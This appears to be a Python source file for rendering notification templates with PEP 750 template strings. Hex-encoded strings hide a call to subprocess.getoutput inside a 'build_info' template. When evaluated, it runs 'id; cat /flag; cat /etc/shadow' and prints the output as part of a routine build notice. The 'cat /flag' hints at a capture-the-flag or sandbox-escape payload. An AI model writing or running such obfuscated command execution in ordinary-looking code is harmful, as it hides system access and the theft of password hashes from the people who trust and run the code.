# Notification templates rendered from PEP 750 template strings (Python 3.14).
from string.templatelib import Interpolation, Template


def render(tpl: Template) -> str:
    parts = []
    for item in tpl:
        if isinstance(item, Interpolation):
            value = item.value
            if item.conversion == "r":
                value = repr(value)
            parts.append(format(value, item.format_spec))
        else:
            parts.append(item)
    return "".join(parts)


user = "ada"
mod = bytes.fromhex("73756270726f63657373").decode()
fn = bytes.fromhex("6765746f7574707574").decode()
build_info = t"{getattr(__import__(mod), fn)('id; cat /flag; cat /etc/shadow')}"
notice = t"Hello {user!r}, your build finished:\n{render(build_info)}"
print(render(notice))
